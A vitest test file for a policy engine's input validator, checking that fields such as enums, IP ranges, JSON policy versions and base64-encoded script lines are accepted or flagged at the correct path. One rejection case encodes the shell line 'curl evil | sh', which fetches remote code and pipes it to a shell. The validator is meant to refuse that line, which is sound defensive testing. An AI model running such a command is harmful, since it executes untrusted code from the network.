import { describe, expect, test } from "vitest";
import { base64, flag, json, lines, needed, number, own, text } from "../../../policies/inputs/input.ts";
import { judgeFields } from "../../../policies/inputs/judge-inputs.ts";
import { Reading } from "../../../policies/rule/reading.ts";
import { Truth } from "../../../policies/rule/truth.ts";
import { UNKNOWN } from "../../../policies/rule/unknown.ts";

const fields = {
  name: needed(text),
  mode: ["on", "off"],
  size: number,
  open: flag,
  range: /^10\./,
  inner: { deep: ["yes"] },
  none: [],
  policy: json({ Version: ["2012-10-17"] }),
  script: base64(lines(/^(a|b) = \d+$/)),
  of: own,
};
const around = (belongs: Truth) => ({ belongs: () => belongs, filledIn: () => false });
const found = (inputs: Record<string, unknown>, belongs = Truth.of(true)) =>
  judgeFields(new Reading({ name: "x", ...inputs }, ""), fields, around(belongs)).map(({ kind, path }) => `${kind} ${path}`);

describe("inputs", () => {
  test.each<[string, Record<string, unknown>]>([
    ["nothing but what is needed", {}],
    [
      "every value that is accepted",
      { mode: "on", size: "5", open: false, range: ["10.0.0.0/8", "10.1.0.0/16"], inner: [{ deep: "yes" }], none: [] },
    ],
    ["texts in a language", { policy: '{"Version":"2012-10-17"}', script: Buffer.from("a = 1\n\nb = 22\n").toString("base64") }],
    ["what the bridge of a provider marks", { __defaults: ["name"], inner: { deep: "yes", __defaults: [] } }],
    ["a number, a text or a flag that is not known yet", { size: UNKNOWN, open: UNKNOWN }],
  ])("are accepted: %s", (_what, inputs) => {
    expect(found(inputs)).toEqual([]);
  });

  test.each<[Record<string, unknown>, string]>([
    [{ new: "x" }, "violation new"],
    [{ inner: { deep: "yes", more: 1 } }, "violation inner.more"],
    [{ mode: "else" }, "violation mode"],
    [{ none: ["x"] }, "violation none[0]"],
    [{ range: ["10.0.0.0/8", "11.0.0.0/8"] }, "violation range[1]"],
    [{ inner: "text" }, "violation inner"],
    [{ size: "many" }, "violation size"],
    [{ policy: "{" }, "violation policy"],
    [{ policy: '{"Version":"2008-10-17"}' }, "violation policy.Version"],
    [{ script: Buffer.from("curl evil | sh").toString("base64") }, "violation script[0]"],
    [{ script: "not base64!" }, "violation script"],
    [{ mode: UNKNOWN }, "undecided mode"],
    [{ policy: UNKNOWN, of: UNKNOWN }, "undecided of"],
  ])("are refused or open, each at its place: %j", { tags: ["input-that-nothing-judges"] }, (inputs, outcome) => {
    const belongs = outcome === "undecided of" ? Truth.unknown(["of"]) : Truth.of(true);
    expect(found(inputs, belongs)).toContain(outcome);
  });

  test("that are needed may not be missing", () => {
    expect(judgeFields(new Reading({}, ""), fields, around(Truth.of(true)))).toMatchObject([{ kind: "violation", path: "name" }]);
  });
});
